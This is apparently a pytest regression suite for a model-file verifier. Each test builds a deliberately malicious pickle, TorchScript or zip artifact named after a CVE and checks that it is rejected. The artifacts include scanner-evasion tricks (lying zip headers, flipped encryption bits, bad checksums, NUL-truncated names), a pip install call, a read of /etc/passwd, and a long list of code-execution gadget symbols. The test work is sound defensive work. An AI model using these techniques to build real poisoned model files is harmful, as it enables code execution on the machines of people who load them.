"""One regression test an advisory, named after it: what each file does must be seen, and no verdict may be accepted."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from tests.builders.opcodes import call, mapping, name, pickled, text, value
from tests.builders.torches import PAYLOAD, archive, state_dict, storage, tensor, torch_legacy, torch_zip
from tests.builders.zips import zip_bytes
from verifier import Outcome, Verdict, verify_model
from verifier.records import Finding

PAYLOAD_RULE = "pickle-dangerous-symbol"


def verified(folder: Path, **files: bytes) -> Verdict:
    """The verdict on a folder of files; `_dot_` stands for a dot in their names."""
    for file, content in files.items():
        (folder / file.replace("_dot_", ".")).write_bytes(content)
    return verify_model(str(folder))


def rules(verdict: Verdict) -> set[str]:
    return {finding.rule for finding in verdict.dossier.findings}


def reasons(verdict: Verdict, rule: str) -> list[Finding]:
    return [finding for finding in verdict.dossier.findings if finding.rule == rule]


def patched(data: bytes, old: bytes, new: bytes, count: int = 1) -> bytes:
    assert len(old) == len(new)
    assert old in data
    return data.replace(old, new, count)


def test_cve_2025_1716_pip_main_is_called(tmp_path: Path) -> None:
    body = call("pip", "main", ["install", "package", "--index-url", "http://host.example"])
    verdict = verified(tmp_path, model_dot_pkl=pickled(body))
    assert verdict.outcome is Outcome.REJECTED
    assert "pip.main" in reasons(verdict, PAYLOAD_RULE)[0].message


def test_cve_2025_1889_a_second_pickle_under_a_suffix_nobody_expects(tmp_path: Path) -> None:
    verdict = verified(tmp_path, model_dot_pt=torch_zip(config_dot_p=pickled(PAYLOAD)))
    assert verdict.outcome is Outcome.REJECTED
    assert reasons(verdict, PAYLOAD_RULE)[0].evidence[0].artifact == "model.pt!archive/config.p"


def test_cve_2025_1944_the_local_header_gives_another_name(tmp_path: Path) -> None:
    lying = patched(torch_zip(pickled(PAYLOAD)), b"archive/data.pkl", b"archive/datap.kl")
    verdict = verified(tmp_path, model_dot_pt=lying)
    assert verdict.outcome is Outcome.REJECTED
    assert rules(verdict) >= {PAYLOAD_RULE, "zip-ambiguous-directory"}


def test_cve_2025_1945_flag_bits_stop_scanners_but_not_torch(tmp_path: Path) -> None:
    data = bytearray(torch_zip(pickled(PAYLOAD)))
    directory = data.index(b"PK\x01\x02")
    data[directory + 8] |= 1
    data[6] |= 1
    verdict = verified(tmp_path, model_dot_pt=bytes(data))
    assert verdict.outcome is Outcome.REJECTED
    assert "zip-encrypted-member" in rules(verdict)


@pytest.mark.parametrize("file", ["pytorch_model_dot_bin", "model_dot_pt", "weights", "model_dot_safetensors_dot_txt"])
def test_cve_2025_10155_a_bare_pickle_under_any_name(tmp_path: Path, file: str) -> None:
    verdict = verified(tmp_path, **{file: pickled(PAYLOAD)})
    assert verdict.outcome is Outcome.REJECTED
    assert PAYLOAD_RULE in rules(verdict)


def test_cve_2025_10156_a_wrong_checksum_stops_scanners_but_not_torch(tmp_path: Path) -> None:
    data = bytearray(torch_zip(pickled(PAYLOAD)))
    data[data.index(b"PK\x01\x02") + 16] ^= 0xFF
    verdict = verified(tmp_path, model_dot_pt=bytes(data))
    assert verdict.outcome is Outcome.REJECTED
    assert PAYLOAD_RULE in rules(verdict)


@pytest.mark.parametrize("symbol", ["_UnixSubprocessTransport._start", "ThreadedChildWatcher"])
def test_cve_2025_10157_a_submodule_of_a_dangerous_package(tmp_path: Path, symbol: str) -> None:
    verdict = verified(tmp_path, model_dot_pkl=pickled(call("asyncio.unix_events", symbol), 4))
    assert verdict.outcome is Outcome.REJECTED


def test_cve_2025_32434_torchscript_reaches_files_without_a_pickle(tmp_path: Path) -> None:
    source = b'def forward(self) -> Tensor:\n  return torch.from_file("/etc/passwd", False, 10)\n'
    data = name("__torch__.m", "M") + b")\x81" + mapping({"training": value(False)}) + b"b"
    script = archive(
        {
            "data.pkl": pickled(data),
            "code/__torch__/m.py": b"class M(Module):\n  " + source,
            "constants.pkl": pickled(value(())),
            "version": b"3\n",
        }
    )
    verdict = verified(tmp_path, model_dot_pt=script)
    assert verdict.outcome is Outcome.REJECTED
    assert "torchscript-file-access" in rules(verdict)


@pytest.mark.parametrize(
    "body",
    [
        tensor() + text("key") + value(1) + b"s",
        name("torch", "FloatStorage") + b"(" + text("key") + value(1) + b"u",
        value("text") + text("key") + value(1) + b"s",
    ],
    ids=["tensor", "class", "text"],
)
def test_cve_2026_24747_items_are_set_on_what_is_no_dict(tmp_path: Path, body: bytes) -> None:
    assert verified(tmp_path, model_dot_pt=torch_zip(pickled(body))).outcome is Outcome.REJECTED


def test_cve_2026_24747_a_storage_claims_more_than_its_member_holds(tmp_path: Path) -> None:
    lying = torch_zip(state_dict(weight=tensor(numel=1000)), {"0": bytes(24)})
    verdict = verified(tmp_path, model_dot_pt=lying)
    assert verdict.outcome is Outcome.REJECTED
    assert "torch-storage-mismatch" in rules(verdict)


def test_cve_2026_1839_the_trainer_s_random_state_beside_safe_weights(tmp_path: Path) -> None:
    verdict = verified(tmp_path, rng_state_dot_pth=torch_zip(pickled(PAYLOAD), {}))
    assert verdict.outcome is Outcome.REJECTED


def test_cve_2024_39705_pickled_data_of_nltk(tmp_path: Path) -> None:
    data = zip_bytes((b"punkt/PY3/english.pickle", pickled(PAYLOAD)))
    assert verified(tmp_path, punkt_dot_zip=data).outcome is Outcome.REJECTED


def test_cve_2023_6730_a_pickle_named_as_a_retriever_s_index(tmp_path: Path) -> None:
    assert verified(tmp_path, index_dot_dpr=pickled(PAYLOAD)).outcome is Outcome.REJECTED


def test_cve_2025_54886_a_joblib_pickle_where_a_skops_archive_is_promised(tmp_path: Path) -> None:
    assert verified(tmp_path, model_dot_skops=pickled(PAYLOAD)).outcome is Outcome.REJECTED


def test_python_issue_126996_a_nul_byte_ends_a_name_in_one_machine_only(tmp_path: Path) -> None:
    verdict = verified(tmp_path, model_dot_pkl=b"\x80\x02cos\nsystem\0x\n" + value(("echo inert",)) + b"R.")
    assert verdict.outcome is Outcome.REJECTED


def test_python_issue_154848_a_frame_ends_inside_an_operand(tmp_path: Path) -> None:
    hidden = PAYLOAD + b"."
    straddling = b"\x80\x04\x95" + (12).to_bytes(8, "little") + b"B" + len(hidden).to_bytes(4, "little") + hidden + b"."
    assert verified(tmp_path, model_dot_pkl=straddling).outcome is Outcome.REJECTED


@pytest.mark.parametrize(
    ("module", "symbol"),
    [
        ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
        ("idlelib.run", "Executive.runcode"),
        ("idlelib.debugobj", "ObjectTreeItem.SetText"),
        ("idlelib.autocomplete", "AutoComplete.get_entity"),
        ("idlelib.calltip", "get_entity"),
        ("profile", "Profile.runctx"),
        ("cProfile", "run"),
        ("trace", "Trace.run"),
        ("torch._dynamo.guards", "GuardBuilder.get"),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper"),
        ("torch.utils.bottleneck.__main__", "run_cprofile"),
        ("torch.utils.collect_env", "run"),
        ("torch.utils._config_module", "ConfigModule.load_config"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
        ("torch._inductor.codecache", "compile_file"),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
        ("code", "InteractiveInterpreter.runcode"),
        ("doctest", "debug_script"),
        ("numpy.f2py.crackfortran", "getlincoef"),
        ("ctypes", "CDLL"),
        ("pty", "spawn"),
        ("ensurepip", "_run_pip"),
        ("pkgutil", "resolve_name"),
        ("distutils.file_util", "write_file"),
        ("_operator", "attrgetter"),
        ("operator", "methodcaller"),
        ("_aix_support", "_read_cmd_output"),
        ("_osx_support", "_read_output"),
        ("imaplib", "IMAP4_stream"),
        ("_pyrepl.pager", "pipe_pager"),
        ("test.support.script_helper", "assert_python_ok"),
        ("uuid", "_get_command_stdout"),
        ("multiprocessing.util", "spawnv_passfds"),
        ("mlflow.projects.backend.local", "_run_entry_point"),
        ("logging.config", "dictConfig"),
        ("importlib.machinery", "SourceFileLoader.load_module"),
        ("numpy.ctypeslib", "load_library"),
        ("_win32sysloader", "LoadModule"),
    ],
)
def test_gadgets_of_published_advisories(tmp_path: Path, module: str, symbol: str) -> None:
    verdict = verified(tmp_path, model_dot_pkl=pickled(call(module, symbol, "inert"), 4))
    assert verdict.outcome is Outcome.REJECTED
    (finding,) = verdict.dossier.findings
    assert f"{module}.{symbol}" in finding.message


def test_attributes_set_on_a_library_s_function_lead_elsewhere(tmp_path: Path) -> None:
    body = name("torch.nn", "functional") + mapping({"__dict__": name("os", "__dict__")}) + b"b"
    assert verified(tmp_path, model_dot_pkl=pickled(body)).outcome is Outcome.REJECTED


def test_only_the_first_of_five_streams_is_what_some_scanners_read(tmp_path: Path) -> None:
    verdict = verified(tmp_path, pytorch_model_dot_bin=torch_legacy(pickled(PAYLOAD)))
    assert verdict.outcome is Outcome.REJECTED
    assert PAYLOAD_RULE in rules(verdict)


def test_two_members_of_one_name_are_two_models(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("archive/data.pkl", state_dict())
        file.writestr("archive/DATA.pkl", pickled(PAYLOAD))
        file.writestr("archive/data/0", bytes(24))
        file.writestr("archive/version", b"3\n")
    verdict = verified(tmp_path, model_dot_pt=buffer.getvalue())
    assert verdict.outcome is Outcome.REJECTED
    assert rules(verdict) >= {PAYLOAD_RULE, "torch-zip-ambiguous-member"}


def test_a_persistent_id_is_no_place_for_a_call(tmp_path: Path) -> None:
    body = mapping({"weight": storage()}) + b"0" + value(("storage", PAYLOAD, "0", "cpu", 6)) + b"Q"
    assert verified(tmp_path, model_dot_pt=torch_zip(pickled(body))).outcome is Outcome.REJECTED
